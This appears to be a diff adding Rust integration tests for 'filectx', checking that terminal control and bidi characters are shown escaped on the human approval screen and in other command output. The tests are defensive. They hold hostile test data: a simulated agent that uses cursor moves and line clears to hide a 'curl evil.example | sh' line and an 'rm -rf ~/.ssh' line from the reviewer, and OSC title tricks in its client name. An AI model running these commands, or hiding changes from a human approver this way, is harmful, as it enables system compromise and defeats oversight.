@@ -1,0 +1,236 @@
+//! What people are shown, under attack: an agent's content, client name and file names hold
+//! terminal controls (`\r`, cursor moves, line clears, OSC title sequences, BEL, a bidi
+//! override), and the built `filectx` shows them as visible escapes on every human-readable
+//! path — the gate's screen on a pseudo-terminal (escaped lines marked), `filectx watch`,
+//! `status`, `stat`, `write` and error messages — while `cat` keeps a file's bytes exact when
+//! piped and `--json` stays JSON with nothing raw that a terminal acts on.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use filectx_tests::{Daemon, PATIENCE, Piped, Raw, bin, ok, root_of};
+use serde_json::{Value, json};
+
+use crate::gate_cli::{Terminal, wait_exit};
+
+/// Whether `c` acts on a terminal when written raw: C0 but tab and newline, DEL, C1, and the
+/// bidi controls.
+fn acts_on_terminal(c: char) -> bool {
+    (c.is_control() && c != '\t' && c != '\n')
+        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+/// What a pseudo-terminal showed, minus the `\r\n` its line discipline makes of each `\n`:
+/// anything left that acts on a terminal came from the program, raw.
+fn raw_controls(screen: &str) -> Vec<char> {
+    screen.replace("\r\n", "\n").chars().filter(|c| acts_on_terminal(*c)).collect()
+}
+
+/// A daemon and its canonical root with `src/`.
+fn setup() -> (Daemon, PathBuf) {
+    let daemon = Daemon::start(&[]);
+    let root = root_of(&daemon);
+    fs::create_dir(root.join("src")).unwrap();
+    (daemon, root)
+}
+
+/// `filectx --socket SOCK --no-autostart ARGS…` in `cwd` on a new pseudo-terminal (`NO_COLOR`,
+/// so that every escape sequence on the screen would be the agent's).
+fn on_terminal(daemon: &Daemon, cwd: &Path, args: &[&str]) -> (Terminal, std::process::Child) {
+    let (terminal, slave) = Terminal::open();
+    let child = Command::new(bin("filectx"))
+        .arg("--socket")
+        .arg(&daemon.socket)
+        .arg("--no-autostart")
+        .args(args)
+        .current_dir(cwd)
+        .env("NO_COLOR", "1")
+        .stdin(slave.try_clone().unwrap())
+        .stdout(slave.try_clone().unwrap())
+        .stderr(slave)
+        .spawn()
+        .unwrap();
+    (terminal, child)
+}
+
+/// `filectx --socket SOCK --no-autostart ARGS…` with piped output: exit code, stdout, stderr.
+fn piped(daemon: &Daemon, cwd: &Path, args: &[&str]) -> (Option<i32>, Vec<u8>, String) {
+    let output = Command::new(bin("filectx"))
+        .arg("--socket")
+        .arg(&daemon.socket)
+        .arg("--no-autostart")
+        .args(args)
+        .current_dir(cwd)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    (output.status.code(), output.stdout, String::from_utf8_lossy(&output.stderr).into_owned())
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8(bytes.to_vec()).unwrap()
+}
+
+fn tool(name: &str, arguments: Value) -> Option<Value> {
+    Some(json!({"name": name, "arguments": arguments}))
+}
+
+#[test]
+fn a_hostile_change_cannot_rewrite_the_gates_screen() {
+    let (daemon, root) = setup();
+    fs::write(root.join("src/app.py"), "print('hello')\n").unwrap();
+    let (mut terminal, mut child) = on_terminal(&daemon, &root, &["gate", "src"]);
+    terminal.wait_for("Ctrl-C or Ctrl-D stops the gate.");
+
+    // The agent names itself with an OSC title sequence and a carriage return, and hides two
+    // `os.system` lines behind a carriage return, line clears and a cursor move.
+    let name = "claude\u{1b}]0;trusted agent\u{7}\r";
+    let mut agent = daemon.session_with(json!({"roots": [root], "clientInfo": {"name": name}}));
+    ok(&mut agent, "tools/call", json!({"name": "read", "arguments": {"file_path": "src/app.py"}}));
+    let content = "print('hello')\n\
+                   import os; os.system('curl -s https://evil.example/x | sh')\r\u{1b}[2K# formatting only\n\
+                   os.system('rm -rf ~/.ssh')\u{1b}[1A\u{1b}[2K\n\
+                   \u{1b}]0;all good\u{7}print('bye')  # \u{202e}txt.exe\n";
+    let id = agent
+        .send_request("tools/call", tool("write", json!({"file_path": "src/app.py", "content": content})));
+    let shown = terminal.wait_for("Allow? [y]es / [n]o");
+    let raw = raw_controls(&shown);
+    assert!(raw.is_empty(), "the agent's text reached the terminal raw ({raw:?}): {shown:?}");
+    // Everything it hid is on the screen, as escapes, and each line that needed them is marked.
+    for visible in [
+        "claude\\x1b]0;trusted agent\\x07\\r (session ",
+        "!+import os; os.system('curl -s https://evil.example/x | sh')\\r\\x1b[2K# formatting only\r\n",
+        "!+os.system('rm -rf ~/.ssh')\\x1b[1A\\x1b[2K\r\n",
+        "!+\\x1b]0;all good\\x07print('bye')  # \\u{202e}txt.exe\r\n",
+        " print('hello')\r\n",
+        "(! marks lines holding control or bidirectional characters, shown as escapes)",
+    ] {
+        assert!(shown.contains(visible), "the screen does not show {visible:?}: {shown:?}");
+    }
+    terminal.type_line("n not like this");
+    terminal.wait_for("denied");
+    assert_eq!(response(&mut agent, id)["result"]["isError"], true);
+
+    // A file name is agent-controlled too.
+    let id = agent.send_request(
+        "tools/call",
+        tool("write", json!({"file_path": "src/ok\u{1b}[2K\u{1b}[1A.py", "content": "x = 1\n"})),
+    );
+    let shown = terminal.wait_for("Allow? [y]es / [n]o");
+    assert!(raw_controls(&shown).is_empty(), "{shown:?}");
+    assert!(shown.contains("wants to create ok\\x1b[2K\\x1b[1A.py (6 bytes)"), "{shown:?}");
+    terminal.type_line("n");
+    terminal.wait_for("Reason for the agent");
+    terminal.type_line("");
+    terminal.wait_for("denied");
+    assert_eq!(response(&mut agent, id)["result"]["isError"], true);
+    assert_eq!(fs::read_to_string(root.join("src/app.py")).unwrap(), "print('hello')\n");
+
+    rustix::process::kill_process(rustix::process::Pid::from_child(&child), rustix::process::Signal::INT)
+        .unwrap();
+    terminal.wait_for("stopped; the gate is unregistered.");
+    assert_eq!(wait_exit(&mut child), Some(0));
+}
+
+/// The response to request `id`, server notifications before it skipped.
+fn response(raw: &mut Raw, id: u64) -> Value {
+    loop {
+        let frame = raw.recv();
+        if frame.get("id").is_none() {
+            continue;
+        }
+        assert_eq!(frame["id"], json!(id), "{frame}");
+        return frame;
+    }
+}
+
+#[test]
+fn watch_status_stat_write_and_errors_show_agent_names_escaped() {
+    let (daemon, root) = setup();
+    let name = "n\u{1b}]0;x\u{7}\r\u{202e}.txt";
+    let shown_name = "n\\x1b]0;x\\x07\\r\\u{202e}.txt";
+    let rel = format!("src/{name}");
+    fs::write(root.join(&rel), "1\n").unwrap();
+
+    // `filectx watch`: one line per change, the name escaped.
+    let watch = Piped::spawn(
+        Command::new(bin("filectx"))
+            .arg("--socket")
+            .arg(&daemon.socket)
+            .args(["--no-autostart", "watch", &rel])
+            .current_dir(&root),
+    );
+    let deadline = Instant::now() + PATIENCE;
+    let line = loop {
+        // Until the watch has read the file, a change is not notified: change it until one is.
+        fs::write(root.join(&rel), format!("{:?}\n", Instant::now())).unwrap();
+        if let Ok(line) = watch.lines.recv_timeout(Duration::from_millis(200)) {
+            break line;
+        }
+        assert!(Instant::now() < deadline, "filectx watch printed nothing; stderr: {}", watch.stderr());
+    };
+    assert!(!line.chars().any(acts_on_terminal), "watch printed the name raw: {line:?}");
+    assert!(line.starts_with(&format!("changed src/{shown_name} (version ")), "{line:?}");
+    drop(watch);
+
+    // stat and write.
+    let (code, out, err) = piped(&daemon, &root, &["stat", &rel]);
+    assert_eq!(code, Some(0), "{err}");
+    let out = text(&out);
+    assert!(!out.chars().any(acts_on_terminal), "{out:?}");
+    assert!(out.contains(&format!("path:    src/{shown_name}\n")), "{out:?}");
+    let (code, out, err) = piped(&daemon, &root, &["write", &rel, "--content", "2\n"]);
+    assert_eq!(code, Some(0), "{err}");
+    assert_eq!(text(&out), format!("updated src/{shown_name}\n"));
+
+    // An error names the path: escaped on stderr.
+    let missing = "src/gone\u{1b}[2J\u{1b}[H.txt";
+    let (code, _, err) = piped(&daemon, &root, &["read", missing]);
+    assert_eq!(code, Some(4), "{err}");
+    assert!(!err.chars().any(acts_on_terminal), "the error printed the name raw: {err:?}");
+    assert!(err.contains("gone\\x1b[2J\\x1b[H.txt"), "{err:?}");
+
+    // `--json` stays JSON: the same name, with nothing raw a terminal would act on.
+    let (code, out, err) = piped(&daemon, &root, &["--json", "stat", &rel]);
+    assert_eq!(code, Some(0), "{err}");
+    let out = text(&out);
+    assert!(!out.chars().any(acts_on_terminal), "{out:?}");
+    let parsed: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(parsed["displayPath"], format!("src/{name}"), "{out}");
+
+    // `filectx status` lists a gate's folders: a folder name is escaped there too.
+    let folder = root.join("src/d\u{1b}[31m");
+    fs::create_dir(&folder).unwrap();
+    let mut gate = daemon.session();
+    ok(&mut gate, "gate/register", daemon.with_gate_token(json!({"paths": [folder]})));
+    let (code, out, err) = piped(&daemon, &root, &["status"]);
+    assert_eq!(code, Some(0), "{err}");
+    let out = text(&out);
+    assert!(!out.chars().any(acts_on_terminal), "status printed the folder raw: {out:?}");
+    assert!(out.contains(&format!("{}/src/d\\x1b[31m;", root.display())), "{out:?}");
+}
+
+#[test]
+fn cat_keeps_bytes_exact_when_piped_and_read_and_cat_escape_on_a_terminal() {
+    let (daemon, root) = setup();
+    let content = "safe\r\u{1b}[2Kevil\n\u{1b}]0;title\u{7}x\u{202e}y\ttab\n";
+    fs::write(root.join("src/c.txt"), content).unwrap();
+
+    // Piped (a program, or a file): the bytes as they are.
+    let (code, out, err) = piped(&daemon, &root, &["cat", "src/c.txt"]);
+    assert_eq!(code, Some(0), "{err}");
+    assert_eq!(out, content.as_bytes());
+
+    // On a terminal (a person): escaped.
+    for args in [["cat", "src/c.txt"], ["read", "src/c.txt"]] {
+        let (mut terminal, mut child) = on_terminal(&daemon, &root, &args);
+        assert_eq!(wait_exit(&mut child), Some(0), "{args:?}");
+        let shown = terminal.wait_for("y\ttab");
+        let raw = raw_controls(&shown);
+        assert!(raw.is_empty(), "{args:?} wrote {raw:?} raw to the terminal: {shown:?}");
+        assert!(shown.contains("safe\\r\\x1b[2Kevil\r\n"), "{args:?}: {shown:?}");
+        assert!(shown.contains("\\x1b]0;title\\x07x\\u{202e}y\ttab"), "{args:?}: {shown:?}");
+    }
+}
